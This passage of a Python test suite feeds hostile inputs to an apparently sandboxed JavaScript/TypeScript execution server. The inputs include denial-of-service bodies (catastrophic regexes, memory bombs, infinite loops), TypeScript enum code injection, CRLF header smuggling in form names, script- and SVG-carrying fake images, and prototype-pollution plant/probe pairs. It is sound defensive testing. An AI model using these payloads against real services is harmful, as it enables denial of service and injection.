    ("array-unshift-huge-arraylike", "both", "Array.prototype.unshift.call({length: 2 ** 53 - 2}, 1);", LIMIT(T, M)),
    ("array-splice-huge-arraylike", "both", "Array.prototype.splice.call({length: 2 ** 53 - 2}, 0, 0, 1);", LIMIT(T, M)),
    ("array-sort-huge-arraylike", "both", "Array.prototype.sort.call({length: 2 ** 53 - 1});", LIMIT(T, M)),
    ("array-toLocaleString-huge-arraylike", "both", "Array.prototype.toLocaleString.call({length: 2 ** 53 - 1});", LIMIT(T, M)),
    ("array-lastIndexOf-huge-arraylike", "execute", "Array.prototype.lastIndexOf.call({length: 2 ** 53 - 1}, 1);", LIMIT(T, M)),
    ("array-fill-huge-arraylike", "execute", "Array.prototype.fill.call({length: 2 ** 53 - 1}, 0);", LIMIT(T, M)),
    ("array-includes-huge-arraylike", "execute", "Array.prototype.includes.call({length: 2 ** 53 - 1}, 1);", LIMIT(T, M)),
    ("new-array-join", "both", "new Array(2 ** 32 - 1).join('');", LIMIT(T, M)),
    ("bigint-division", "both", "for (;;) (10n ** 300000n) / (7n ** 100000n);", LIMIT(T, M)),
    ("bigint-division-issue-form", "execute", "(10n ** 1000000n) / (7n ** 300000n);", LIMIT(T, M, "length")),
    ("bigint-tostring", "execute", "for (;;) String(7n ** 300000n);", LIMIT(T, M)),
    ("bigint-parse", "execute", "const s = '9'.repeat(3e5);\nfor (;;) BigInt(s) % 7n;", LIMIT(T, M)),
    ("console-flood-huge-objects", "both",
     "const o = Array.from({length: 1e4}, (_, i) => ({i, s: 'x'.repeat(100)}));\nfor (;;) console.log(o);", LIMIT(T, M)),
    ("loop-native-indexOf-10mb", "both", "const s = 'a'.repeat(1e7);\nfor (;;) s.indexOf('b');", LIMIT(T)),
    ("loop-native-join-2e5", "both", "const a = Array(2e5).fill('ab');\nfor (;;) a.join(',');", LIMIT(T, M)),
    ("loop-native-stringify-1e5", "both", "const a = Array.from({length: 1e5}, (_, i) => ({i}));\nfor (;;) JSON.stringify(a);", LIMIT(T, M)),
    ("loop-native-sort", "execute", "const a = Array.from({length: 3e5}, (_, i) => (i * 7919) % 3e5);\nfor (;;) a.slice().sort();", LIMIT(T, M)),
    ("loop-native-replace", "execute", "const s = 'a'.repeat(5e6);\nfor (;;) s.replace(/a/g, 'b');", LIMIT(T, M)),
    ("loop-native-parse", "execute", "const j = JSON.stringify(Array.from({length: 2e5}, (_, i) => i));\nfor (;;) JSON.parse(j);", LIMIT(T, M)),
    ("regex-nested-quantifier", "both", "/^(a+)+$/.test('a'.repeat(40) + 'b');", LIMIT(T)),
    ("regex-alternation", "both", "/^(a|aa)+$/.test('a'.repeat(60) + 'b');", LIMIT(T)),
    ("regex-words", "both", "/^(\\w+\\s?)*$/.test('aaaa '.repeat(20) + '!');", LIMIT(T)),
    ("regex-xx-y", "execute", "/(x+x+)+y/.test('x'.repeat(60));", LIMIT(T)),
    ("regex-backref", "execute", "/^(a+)\\1*$/.test('a'.repeat(5e4) + 'b');", BOUNDED()),
    ("regex-replace-global", "execute", "'a'.repeat(3e4).replace(/(a*)*b/g, '');", LIMIT(T)),
    ("regex-in-loop", "execute", "for (;;) /(a|b|c)*d/.test('abc'.repeat(1e4));", LIMIT(T)),
    ("recursion-plain", "both", "const f = n => f(n + 1) + 1;\nreturn f(0);", LIMIT(S)),
    ("recursion-mutual", "execute", "const f = n => g(n) + 1, g = n => f(n + 1);\nreturn f(0);", LIMIT(S)),
    ("recursion-getter", "both", "const o = {get x() { return this.x; }};\nreturn o.x;", LIMIT(S)),
    ("recursion-tostring", "execute", "const o = {toString() { return '' + o; }};\nreturn '' + o;", LIMIT(S)),
    ("recursion-proxy", "execute", "const p = new Proxy({}, {get(t, k, r) { return r[k]; }});\nreturn p.x;", LIMIT(S)),
    ("recursion-json-parse", "both", "return JSON.parse('['.repeat(1e6) + ']'.repeat(1e6)).length;", LIMIT(S, M)),
    ("recursion-json-stringify", "execute", "let a = [];\nfor (let i = 0; i < 1e6; i++) a = [a];\nreturn JSON.stringify(a).length;", LIMIT(S, M)),
    ("recursion-parser", "both", "return new Function('return ' + '('.repeat(1e5) + '1' + ')'.repeat(1e5))();", LIMIT(S, M)),
    ("recursion-regex-parser", "execute", "return new RegExp('(?:'.repeat(1e5) + ')'.repeat(1e5)).test('');", LIMIT(S, M)),
    ("recursion-flat-infinity", "execute", "let a = [];\nfor (let i = 0; i < 1e6; i++) a = [a];\nreturn a.flat(Infinity).length;", LIMIT(S, M)),
    ("memory-string-doubling", "both", "let s = 'x';\nfor (;;) s += s;", LIMIT(M, "length")),
    ("memory-array-push", "both", "const a = [];\nfor (;;) a.push(new Array(1e5).fill(0));", LIMIT(M)),
    ("memory-typed-array", "both", "const a = [];\nfor (;;) a.push(new Float64Array(1 << 20));", LIMIT(M)),
    ("memory-typed-array-one", "execute", "return new Uint8Array(2 ** 31).length;", LIMIT(M, "length")),
    ("memory-typed-array-256m", "execute", "return new Uint8Array(2 ** 28).length;", LIMIT(M)),
    ("memory-array-buffer", "execute", "const a = [];\nfor (;;) a.push(new ArrayBuffer(1 << 20));", LIMIT(M)),
    ("memory-map-growth", "both", "const m = new Map();\nfor (let i = 0; ; i++) m.set(i, {i});", LIMIT(M)),
    ("memory-set-growth", "execute", "const s = new Set();\nfor (let i = 0; ; i++) s.add('k' + i);", LIMIT(M)),
    ("memory-object-props", "execute", "const o = {};\nfor (let i = 0; ; i++) o['p' + i] = i;", LIMIT(M)),
    ("memory-repeat", "both", "return 'x'.repeat(2 ** 29).length;", LIMIT(M)),
    ("memory-padEnd", "execute", "return ''.padEnd(2 ** 29, 'ab').length;", LIMIT(M)),
    ("memory-array-fill", "execute", "return new Array(1e9).fill(0).length;", LIMIT(M)),
    ("memory-closures", "execute", "const a = [];\nfor (let i = 0; ; i++) a.push(() => i);", LIMIT(M)),
    ("memory-console", "both", "for (;;) console.log('x'.repeat(1e6));", LIMIT(T, M)),
    ("memory-result-serialisation", "both",
     "return Array.from({length: 2e6}, (_, i) => ({i, s: 'abcdefgh'}));", LIMIT(M, T)),
    ("never-settles", "both", "await new Promise(() => {});", ERR("never settle")),
    ("never-settles-kept-resolver", "both", "await new Promise(r => { globalThis.keep = r; });", ERR("never settle")),
    ("never-settles-all", "execute", "await Promise.all([1, new Promise(() => {})]);", ERR("never settle")),
    ("spin-in-result-getter", "both", "return {get x() { while (true) {} }};", LIMIT(T)),
    ("spin-in-result-toJSON", "both", "return {toJSON() { for (;;) {} }};", LIMIT(T)),
    ("spin-in-result-proxy-ownKeys", "execute", "return new Proxy({}, {ownKeys() { for (;;) {} }});", LIMIT(T)),
    ("spin-in-thrown-toString", "both", "throw {message: {toString() { for (;;) {} }}};", LIMIT(T)),
    ("spin-in-thrown-message-getter", "both", "throw {get message() { for (;;) {} }};", LIMIT(T)),
    ("spin-in-thrown-name-getter", "execute", "throw {get name() { for (;;) {} }, message: 'x'};", LIMIT(T)),
    ("spin-in-thrown-stack-getter", "execute", "throw {message: 'x', get stack() { for (;;) {} }};", LIMIT(T)),
    ("spin-in-error-extra-field", "both",
     "const e = new Error('x');\nObject.defineProperty(e, 'extra', {enumerable: true, get() { for (;;) {} }});\nthrow e;", LIMIT(T)),
    ("spin-in-thrown-proxy", "execute", "throw new Proxy({}, {get() { for (;;) {} }});", LIMIT(T)),
    ("spin-in-promise-rejection-reason", "execute", "await Promise.reject({get message() { for (;;) {} }});", LIMIT(T)),
    ("spin-in-thenable-result", "both", "return {then() { for (;;) {} }};", LIMIT(T)),
    ("atomics-wait", "both", "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);", BOUNDED()),
    ("atomics-wait-timeout", "execute", "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1e9);", BOUNDED()),
    ("upstream-slow", "execute", "return (await cnt.request('GET /slow')).status;", LIMIT(T)),
    ("upstream-slow-parallel", "execute", "return (await Promise.all([1, 2, 3].map(() => cnt.request('GET /slow')))).length;", LIMIT(T)),
    ("portal-slow", "execute", "return codemode.echo_slow({secs: 10});", LIMIT(T)),
    ("requests-sequential", "execute", "for (let i = 0; i < 10; i++) await cnt.request('GET /items');", LIMIT("requests")),
    ("requests-parallel", "execute", "await Promise.all(Array.from({length: 10}, () => cnt.request('GET /items')));", LIMIT("requests")),
    ("requests-mixed-apis", "execute", "for (let i = 0; i < 10; i++) await [cnt, ro, bas][i % 3].request('GET /items');", LIMIT("requests")),
    ("requests-swallowed", "execute",
     "let n = 0;\nfor (let i = 0; i < 50; i++) { try { await cnt.request('GET /items'); n++; } catch (e) {} }\nreturn n;", BOUNDED()),
]
# Timers: bounded by the call's deadline (timeout_secs = 2) and a count.
EXHAUST += [
    ("timer-past-deadline", "both", "await new Promise(r => setTimeout(r, 60000));", ERR("would fire after this call's time limit")),
    ("timer-past-deadline-infinity", "both", "await new Promise(r => setTimeout(r, Infinity));", ERR("would fire after this call's time limit")),
    ("interval-chain-past-deadline", "both", "let n = 0;\nawait new Promise(r => setInterval(() => { if (++n === 1e9) r(); }, 500));", LIMIT(T)),
    ("timer-flood", "both", "for (let i = 0; i < 1e6; i++) setTimeout(() => {}, 0);", ERR("limit of 1000 timers")),
    ("timer-flood-swallowed", "both", "let n = 0;\nfor (let i = 0; i < 1e5; i++) { try { setTimeout(() => {}, 10); n++; } catch (e) {} }\nreturn n;", OK("1000")),
    ("timer-zero-interval-spin", "both", "setInterval(() => {}, 0);\nawait new Promise(() => {});", LIMIT(T)),
    ("timer-interval-busy", "both", "setInterval(() => { for (let i = 0; i < 1e6; i++); }, 0);\nawait new Promise(() => {});", LIMIT(T)),
    ("timer-requeue-chain", "both", "const f = () => setTimeout(f, 0);\nf();\nawait new Promise(() => {});", ERR("limit of 1000 timers")),
    ("timer-spin-in-callback", "both", "await new Promise(r => setTimeout(() => { for (;;) {} }, 10));", LIMIT(T)),
    ("timer-throws", "both", "setTimeout(() => { throw new Error('boom-in-timer'); }, 5);\nawait new Promise(() => {});", ERR("boom-in-timer")),
    ("timer-string-callback", "both", "setTimeout('globalThis.x = 1', 0);", ERR("needs a function")),
    ("timer-wait-within-limit", "both", "const t0 = Date.now();\nawait new Promise(r => setTimeout(r, 300));\nreturn Date.now() - t0 >= 290;", OK("true")),
]
for id, tools, body, expect in EXHAUST:
    add(f"exhaust-{id}", "exhaustion", tools, "async () => {\n" + body + "\n}", expect)

# Output that is merely big: capped, valid, the server fine.
add("output-huge-string", "exhaustion", "both", "async () => 'A'.repeat(2e7)", BOUNDED())
add("output-huge-console", "exhaustion", "both", "async () => { for (let i = 0; i < 200; i++) console.log('y'.repeat(1e5)); return 1; }", BOUNDED())
add("output-nested-200", "exhaustion", "both", "async () => { let o = {}; for (let i = 0; i < 200; i++) o = {o}; return o; }",
    BOUNDED(none=("did not parse on the host",)))
add("output-nested-5000", "exhaustion", "both", "async () => { let o = {}; for (let i = 0; i < 5000; i++) o = {o}; return o; }",
    BOUNDED(none=("did not parse on the host",)))
# Errors that tell the model something.
add("error-thrown-bigint", "exhaustion", "both", "async () => { throw 10n; }", ERR("10", none=("thrown: undefined",)))
add("error-thrown-proxy", "exhaustion", "both", "async () => { throw new Proxy({}, {}); }", ERR("Error", "thrown", "object"))
add("error-thrown-symbol", "exhaustion", "both", "async () => { throw Symbol('sym'); }", ERR("sym", none=("thrown: undefined",)))
add("error-thrown-undefined", "exhaustion", "both", "async () => { throw undefined; }", ERR("undefined"))
add("error-thrown-cyclic", "exhaustion", "both", "async () => { const o = {message: 'cyc'}; o.o = o; throw o; }", ERR("cyc"))

# ============================================================================ typescript
# TypeScript is parsed (oxc) inside the worker before QuickJS sees the code. The
# parser is recursive: code that could nest past its stack is refused before it
# is parsed; nesting within that budget parses, and QuickJS's own limits judge
# the rest. Blanking writes only spaces (plus `;` and `)` where ASI needs them),
# and an enum's member names become quoted strings: nothing in a type can run.

add("ts-deep-parens", "typescript", "both",
    "async (): number => " + "(" * 60000 + "1" + ")" * 60000, ERR("too large to be read as TypeScript"))
add("ts-deep-angles", "typescript", "both", "let x: " + "A<" * 60000 + "T" + ">" * 60000 + " = 1; return x",
    ERR("too large to be read as TypeScript"))
add("ts-operator-soup", "typescript", "both", "<" * 200000, ERR("SyntaxError"))
add("ts-deep-within-budget-parens", "typescript", "both",
    "const x: number = " + "(" * 3900 + "1" + ")" * 3900 + "; return x", BOUNDED())
add("ts-deep-within-budget-not", "typescript", "both", "const x: boolean = " + "!" * 7900 + "true; return x", BOUNDED())
add("ts-deep-type-within-budget", "typescript", "both",
    "type T = " + "A<" * 2600 + "B" + ">" * 2600 + ";\nreturn 'typed'", OK("typed"))
add("ts-conditional-types-within-budget", "typescript", "both",
    "type T = " + "A extends B ? C : " * 1300 + "D;\nreturn 'typed'", OK("typed"))
add("ts-huge-union", "typescript", "both",
    "type U = " + " | ".join(f"'v{i}'" for i in range(1800)) + ";\nconst u: U = 'v1'; return u", OK("v1"))
add("ts-many-interfaces", "typescript", "both",
    "".join(f"interface I{i} {{ a: string; b?: number }}\n" for i in range(600)) + "return 'many'", OK("many"))
add("ts-over-budget-javascript-still-runs", "typescript", "both",
    "return [" + "1," * 9000 + "1].length", OK("9001"))
add("ts-type-position-code-never-runs", "typescript", "both",
    "let f: (x: typeof globalThis) => void; type G = ReturnType<typeof eval>; return typeof f", OK("undefined"))
add("ts-enum-key-injection", "typescript", "both",
    "enum E { 'x\"] = 0; globalThis.pwned = 1; //' = 1, B }\nreturn [typeof globalThis.pwned, E.B].join()",
    OK("undefined,2"))
add("ts-enum-name-is-data", "typescript", "both",
    "enum E { '__proto__' = 1, constructor = 2 }\nreturn [typeof E['__proto__'], E.constructor, E[2], ({}).constructor === Object].join()",
    OK("object,2,constructor,true"))
add("ts-comment-in-modifiers", "typescript", "both",
    "class A { private /* ) => { globalThis.x = 1 } */ readonly v = 1 }\nreturn [new A().v, typeof globalThis.x].join()",
    OK("1,undefined"))
add("ts-line-separator-in-type", "typescript", "both",
    "const x: number\u2028= 5;\nreturn x", OK("5"))
add("ts-asi-after-as", "typescript", "both",
    "let hit = 'no'; const f = () => { hit = 'called' }; let y = f as unknown\n(1)\nreturn hit", OK("no"))
add("ts-return-assertion-line-break", "typescript", "both",
    "async () => { return <number>\n 1 }", ERR("write `expr as T`"))
add("ts-namespace-with-values", "typescript", "both",
    "namespace N { export const leak = globalThis }\nreturn 1", ERR("use an object instead"))
# ============================================================================ rich results: bytes, forms, images
# Bytes cross the wall as base64 JSON; forms are built on the host from checked
# names; only validated images leave as MCP image blocks (no data in the text).

RICH_REFUSED = {
    "rawbody-past-cap": ("{method: 'POST', path: '/once/%MK%', rawBody: new Uint8Array(64 * 1024)}", "max_request_kib"),
    "form-file-past-cap": ("{method: 'POST', path: '/once/%MK%', form: {f: {data: new Uint8Array(64 * 1024)}}}", "max_request_kib"),
    "form-crlf-filename": ("{method: 'POST', path: '/once/%MK%', form: {f: {filename: 'a\\r\\nContent-Type: text/html', data: 'x'}}}", "control characters"),
    "form-crlf-name": ("{method: 'POST', path: '/once/%MK%', form: {'a\\r\\n--x\\r\\nContent-Disposition: form-data; name=\"admin\"': 'y'}}", "control characters"),
    "form-nul-name": ("{method: 'POST', path: '/once/%MK%', form: {'a\\u0000': 'y'}}", "control characters"),
    "form-method-override": ("{method: 'POST', path: '/once/%MK%', form: {_method: 'DELETE'}}", "_method"),
    "form-bad-base64": ("{method: 'POST', path: '/once/%MK%', form: {f: {base64: '%%%'}}}", "base64"),
    "rawbody-fake-bytes": ("{method: 'POST', path: '/once/%MK%', rawBody: {'$bytes': '***'}}", "base64"),
    "rawbody-object": ("{method: 'POST', path: '/once/%MK%', rawBody: {a: 1}}", "rawBody"),
    "form-and-body": ("{method: 'POST', path: '/once/%MK%', body: {}, form: {a: 1}}", "pass one of"),
}
for k, (arg, says) in RICH_REFUSED.items():
    add(f"rich-{k}", "rich", "execute", f"async () => cnt.request({arg})", REFUSED(says))
# Buffer views that lie about themselves: the bridge builds a real view, or throws.
add("rich-proxy-view", "rich", "execute",
    "async () => cnt.request({method: 'POST', path: '/once/%MK%', rawBody: new Proxy(new Uint8Array(4), "
    "{get: (t, k) => k === 'byteLength' ? 1e9 : Reflect.get(t, k)})})", BOUNDED())
add("rich-detached-buffer", "rich", "execute",
    "async () => { const b = new ArrayBuffer(8); if (b.transfer) b.transfer(); "
    "return cnt.request({method: 'POST', path: '/once/%MK%', rawBody: b}); }", BOUNDED())
add("rich-tojson-swapped", "rich", "execute",
    "async () => { Uint8Array.prototype.toJSON = () => ({'$bytes': 'A'.repeat(1e6)}); "
    "return cnt.request({method: 'POST', path: '/once/%MK%', rawBody: new Uint8Array(1)}); }", REFUSED("max_request_kib"))
# Spoofed image blocks: never attached ("[image not attached: why]"), data dropped from the text.
PNG_B64 = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
RICH_SPOOFED = {
    "image-bad-base64": ("{type: 'image', data: '!!not base64!!', mimeType: 'image/png'}", "its data is not valid base64"),
    "image-html-as-png": ("{type: 'image', data: 'PGh0bWw+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0PjwvaHRtbD4=', mimeType: 'image/png'}", "its bytes are not image/png"),
    "image-svg": ("{type: 'image', data: 'PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==', mimeType: 'image/svg+xml'}", "is not a type sent as image"),
    "image-fake-mime": (f"{{type: 'image', data: '{PNG_B64}', mimeType: 'text/html'}}", "is not a type sent as image"),
    "image-mime-crlf": (f"{{type: 'image', data: '{PNG_B64}', mimeType: 'image/png\\r\\nX-A: 1'}}", "is not a type sent as image"),
    "image-huge": ("{type: 'image', data: 'iVBORw0KGgo' + 'A'.repeat(8e6), mimeType: 'image/png'}", "binary_kib"),
    "audio-png": (f"{{type: 'audio', data: '{PNG_B64}', mimeType: 'audio/wav'}}", "its bytes are not audio/wav"),
}
for k, (block, says) in RICH_SPOOFED.items():
    add(f"rich-{k}", "rich", "execute", f"async () => ({block})",
        HAS(says,
            none=("AAAAAAAAAAAAAAAA", "PGh0bWw", "PHN2Zy", "iVBORw0KGgo")))

# ============================================================================ side effects run once
# A SyntaxError thrown at run time must not make the host re-read and re-run the code.
ONCE_BODIES = {
    "eval": "eval('(')",
    "new-function": "new Function('(')",
    "function": "Function('(')",
    "eval-brace": "eval('}')",
    "json-parse": "JSON.parse('{')",
    "regexp": "new RegExp('(')",
    "throw-syntaxerror": "throw new SyntaxError('mine')",
}
for k, bad in ONCE_BODIES.items():
    add(f"once-arrow-{k}", "once", "execute",
        f"async () => {{ console.log('once-%MK%'); await cnt.request({{method: 'POST', path: '/once/%MK%', body: {{}}}}); {bad}; }}", ONCE)
add("once-script-eval", "once", "execute",
    "console.log('once-%MK%');\nawait cnt.request({method: 'POST', path: '/once/%MK%', body: {}});\neval('(');", ONCE)
add("once-body-return-eval", "once", "execute",
    "console.log('once-%MK%');\nawait cnt.request({method: 'POST', path: '/once/%MK%', body: {}});\nreturn eval('(');", ONCE)
add("once-function-decl", "once", "execute",
    "async function main() { console.log('once-%MK%'); await cnt.request({method: 'POST', path: '/once/%MK%', body: {}}); return new Function('(')(); }",
    ONCE)


# ============================================================================ cross-call plant/probe pairs
# The probe's answer must equal its answer on a fresh server (its baseline) every
# time, after the plant ran (≥ 8 times, concurrently, from several clients).

PAIRS: list[Pair] = []


def pair(id, tools, plant, probe, expect=None):
    PAIRS.append(Pair(id, tools, plant, probe, expect))


B = "both"
pair("global", B, "async () => { globalThis.leak = 'PWNED'; var v = 1; }", "async () => typeof leak", "undefined")
pair("object-prototype", B, "async () => { Object.prototype.polluted = 'PWNED'; }", "async () => String(({}).polluted)", "undefined")
pair("array-prototype", B, "async () => { Array.prototype.push = () => 'PWNED'; Array.prototype.map = () => 'PWNED'; }",
     "async () => JSON.stringify([[1].map(x => x), (() => { const a = []; a.push(1); return a; })()])", "[[1],[1]]")
pair("json-parse", B, "async () => { JSON.parse = () => 'PWNED'; JSON.stringify = () => '\"PWNED\"'; }",
     "async () => JSON.parse('[1]')", "[1]")
pair("prepare-stack-trace", B, "async () => { Error.prepareStackTrace = (e, s) => { e.message = 'PWNED'; return 'PWNED'; }; }",
     "async () => { try { null.x; } catch (e) { return [typeof Error.prepareStackTrace, String(e.stack).includes('PWNED'), e.message.includes('PWNED')].join(); } }")
pair("prepare-stack-trace-uncaught", B, "async () => { Error.prepareStackTrace = (e) => { e.message = 'PWNED'; return 'PWNED'; }; }",
     "async () => { null.x; }")
pair("prepare-stack-trace-spy", B,
     "async () => { Error.prepareStackTrace = (e, frames) => { try { Object.prototype.spied = String(e.message); } catch (x) {} return ''; }; }",
     "async () => { try { undefined.secretVictimCode; } catch (e) {} return String(({}).spied); }", "undefined")
pair("stack-trace-limit", B,
     "async () => { try { Error.stackTraceLimit = {valueOf() { Object.prototype.stl = 'PWNED'; return 1; }}; } catch (e) {} }",
     "async () => { try { null.x; } catch (e) {} return [String(({}).stl), typeof Error.stackTraceLimit].join(); }")
pair("capture-stack-trace", B,
     "async () => { try { Error.captureStackTrace = () => { Object.prototype.cst = 'PWNED'; }; } catch (e) {} }",
     "async () => { const o = {}; try { Error.captureStackTrace && Error.captureStackTrace(o); } catch (e) {} return String(({}).cst); }",
     "undefined")
pair("error-prototype", B, "async () => { Error.prototype.toString = () => 'PWNED'; Error.prototype.name = 'PWNED'; }",
     "async () => String(new TypeError('a'))", "TypeError: a")
pair("symbol-registry", B, "async () => { globalThis[Symbol.for('cm-leak')] = 'PWNED'; Object.prototype[Symbol.for('cm-leak2')] = 'PWNED'; }",
     "async () => [String(globalThis[Symbol.for('cm-leak')]), String(({})[Symbol.for('cm-leak2')])].join()", "undefined,undefined")
pair("symbol-prototype", B, "async () => { Symbol.prototype.leak = 'PWNED'; Symbol.for('x').constructor.leak2 = 'PWNED'; }",
     "async () => [String(Symbol.for('q').leak), String(Symbol.leak2)].join()", "undefined,undefined")
pair("atomics", B, "async () => { Atomics.leak = 'PWNED'; globalThis.sab = new SharedArrayBuffer(8); Atomics.store(new Int32Array(sab), 0, 42); }",
     "async () => [String(Atomics.leak), typeof sab].join()", "undefined,undefined")
pair("weakref-finalization", B,
     "async () => { const fr = new FinalizationRegistry(() => { Object.prototype.fin = 'PWNED'; globalThis.fin = 'PWNED'; });\n"
     "  for (let i = 0; i < 1000; i++) fr.register({i}, i); globalThis.keepFr = fr; globalThis.wr = new WeakRef({}); return 1; }",
     "async () => { const junk = []; for (let i = 0; i < 2e4; i++) junk.push({i}); return [String(({}).fin), typeof fin, typeof wr].join(); }",
     "undefined,undefined,undefined")
pair("job-after-return", B,
     "async () => { let p = Promise.resolve(); for (let i = 0; i < 200; i++) p = p.then(() => {}); p.then(() => { Object.prototype.job = 'PWNED'; globalThis.job = 'PWNED'; }); return 1; }",
     "async () => { await null; await null; return [String(({}).job), typeof job].join(); }", "undefined,undefined")
pair("job-self-requeue-after-return", B,
     "async () => { const f = () => { Object.prototype.rq = 'PWNED'; Promise.resolve().then(f); }; Promise.resolve().then(() => Promise.resolve().then(f)); return 1; }",
     "async () => { await null; return String(({}).rq); }", "undefined")
pair("job-in-toJSON", B,
     "async () => ({toJSON() { Promise.resolve().then(() => { Object.prototype.tj = 'PWNED'; globalThis.tj = 'PWNED'; }); return 1; }})",
     "async () => { await null; return [String(({}).tj), typeof tj].join(); }", "undefined,undefined")
pair("job-in-thrown-getter", B,
     "async () => { throw {get message() { Promise.resolve().then(() => { Object.prototype.tg = 'PWNED'; }); return 'x'; }}; }",
     "async () => { await null; return String(({}).tg); }", "undefined")
pair("job-in-result-getter", B,
     "async () => ({get x() { Promise.resolve().then(() => { Object.prototype.rg = 'PWNED'; }); return 1; }})",
     "async () => { await null; return String(({}).rg); }", "undefined")
pair("promise-prototype", B, "async () => { Promise.prototype.then = function () { return 'PWNED'; }; }",
     "async () => String(await Promise.resolve(5))", "5")
pair("thenable-object-prototype", B, "async () => { Object.prototype.then = function (r) { r('PWNED'); }; return 1; }",
     "async () => ({a: 1})", "{\"a\":1}")
pair("tojson-prototypes", B, "async () => { Array.prototype.toJSON = () => 'PWNED'; Object.prototype.toJSON = () => 'PWNED'; return 1; }",
     "async () => [1, {a: 2}]")
pair("function-prototype", B, "async () => { Function.prototype.call = () => 'PWNED'; Function.prototype.apply = () => 'PWNED'; Function.prototype.leak = 'PWNED'; }",
     "async () => [Math.max.apply(null, [1, 2]), String((() => 1).leak)].join()", "2,undefined")
pair("console", B, "async () => { console.log = () => {}; console.leak = 'PWNED'; }",
     "async () => { console.log('probe-line'); return String(console.leak); }")
pair("math-date", B, "async () => { Math.random = () => 0.5; Date.now = () => 0; Math.leak = 'PWNED'; }",
     "async () => [Date.now() > 0, String(Math.leak)].join()", "true,undefined")
pair("global-prototype", B, "async () => { Object.setPrototypeOf(globalThis, {gp: 'PWNED'}); }", "async () => typeof gp", "undefined")
pair("eval-replaced", B, "async () => { globalThis.eval = () => 'PWNED'; globalThis.Function = function () { return () => 'PWNED'; }; }",
     "async () => [eval('1 + 1'), Function('return 3')()].join()", "2,3")
pair("regexp-statics", B, "async () => { /(sekret-\\w+)/.exec('sekret-PWNED'); RegExp.leak = 'PWNED'; }",
     "async () => [String(RegExp.$1), String(RegExp.lastMatch), String(RegExp.leak)].join()")
pair("string-prototype", B, "async () => { String.prototype.trim = () => 'PWNED'; String.prototype.leak = 'PWNED'; }",
     "async () => [' a '.trim(), String(''.leak)].join()", "a,undefined")
pair("client-object", "execute", "async () => { cnt.request = async () => 'PWNED'; Object.getPrototypeOf(cnt).leak = 'PWNED'; cnt.x = 'PWNED'; }",
     "async () => [String(await cnt.request('GET /items').then(r => r.status, e => 'err')), String(cnt.leak), String(cnt.x)].join()",
     "200,undefined,undefined")
pair("portal-client-object", "execute", "async () => { codemode.echo_args = async () => 'PWNED'; codemode.leak = 'PWNED'; }",
     "async () => [typeof (await codemode.echo_args({a: 1})), String(codemode.echo_args).includes('PWNED')].join()", "object,false")
pair("spec-mutation", "search",
     "async () => { const s = specs.cnt; try { s.info.title = 'PWNED'; } catch (e) {} try { s.paths.PWNED = {}; } catch (e) {} try { delete s.paths['/items']; } catch (e) {} }",
     "async () => [specs.cnt.info.title, 'PWNED' in specs.cnt.paths, '/items' in specs.cnt.paths].join()",
     "counting upstream,false,true")
pair("spec-prototype", "search",
     "async () => { try { Object.getPrototypeOf(specs.cnt).sp = 'PWNED'; } catch (e) {} try { Object.getPrototypeOf(specs.cnt.paths).sp2 = 'PWNED'; } catch (e) {} try { Object.setPrototypeOf(specs.cnt, {sp3: 'PWNED'}); } catch (e) {} }",
     "async () => [String(specs.cnt.sp), String(specs.cnt.paths.sp2), String(specs.cnt.sp3), String(({}).sp)].join()",
     "undefined,undefined,undefined,undefined")
pair("spec-cycle-proxy", "search",
     "async () => { const n = specs.cnt.components.schemas.Node; try { n.properties.next.PWNED = 1; } catch (e) {} try { n.properties.next.properties.leak = 'PWNED'; } catch (e) {} try { Object.getPrototypeOf(n.properties.next).cp = 'PWNED'; } catch (e) {} }",
     "async () => { const n = specs.cnt.components.schemas.Node; return [String(n.properties.next.PWNED), String(n.properties.next.properties && n.properties.next.properties.leak), String(({}).cp)].join(); }",
     "undefined,undefined,undefined")
pair("specs-object", "search", "async () => { try { specs.evil = {}; } catch (e) {} try { Object.defineProperty(specs, 'cnt', {value: 'PWNED'}); } catch (e) {} }",
     "async () => [typeof specs.evil, typeof specs.cnt].join()", "undefined,object")
# The web-standard globals: tampering stays in the call that did it.
pair("web-globals", B,
     "async () => { for (const k of ['URL', 'URLSearchParams', 'TextEncoder', 'TextDecoder', 'crypto', 'structuredClone', 'atob', 'setTimeout']) { try { globalThis[k] = () => 'PWNED'; } catch (e) {} } }",
     "async () => [new URL('/a?b=c d', 'https://x.test').href, new URLSearchParams({q: 'a b'}).toString(), new TextEncoder().encode('é').length, atob('UA=='), typeof crypto.randomUUID(), structuredClone([1])[0], typeof setTimeout(() => {}, 1)].join()",
     "https://x.test/a?b=c%20d,q=a+b,2,P,string,1,number")
pair("web-prototypes", B,
     "async () => { for (const C of [URL, URLSearchParams, TextEncoder, TextDecoder]) { try { C.prototype.toString = () => 'PWNED'; } catch (e) {} try { Object.setPrototypeOf(C.prototype, {leak: 'PWNED'}); } catch (e) {} try { C.prototype.leak = 'PWNED'; } catch (e) {} } try { crypto.randomUUID = () => 'PWNED'; } catch (e) {} try { Object.defineProperty(URL.prototype, 'href', {get: () => 'PWNED'}); } catch (e) {} try { Uint8Array.prototype.set = () => 'PWNED'; Map.prototype.get = () => 'PWNED'; String.prototype.toWellFormed = () => 'PWNED'; } catch (e) {} }",
     "async () => [String(new URL('https://x.test/')), new URL('https://x.test/').href, String(new URLSearchParams('a=1')), String(URL.prototype.leak), /^[0-9a-f-]{36}$/.test(crypto.randomUUID()), new TextDecoder().decode(new Uint8Array([80])), JSON.stringify(structuredClone(new Map([[1, 2]])).get(1))].join()",
     "https://x.test/,https://x.test/,a=1,undefined,true,P,2")
pair("web-pending-timers", B,
     "async () => { setTimeout(() => { Object.prototype.late = 'PWNED'; }, 50); setInterval(() => { globalThis.tick = 'PWNED'; }, 1); return 1; }",
     "async () => { await new Promise(r => setTimeout(r, 120)); return [String(({}).late), typeof tick].join(); }",
     "undefined,undefined")
pair("codemode-search-helpers", "search", "async () => { try { codemode.tools = () => 'PWNED'; codemode.leak = 'PWNED'; } catch (e) {} }",
     "async () => [Array.isArray(codemode.tools()), String(codemode.leak)].join()", "true,undefined")

# The realm that owns the spec objects (reachable through their constructors):
# its Error accessors store state that a later call's errors would run through.
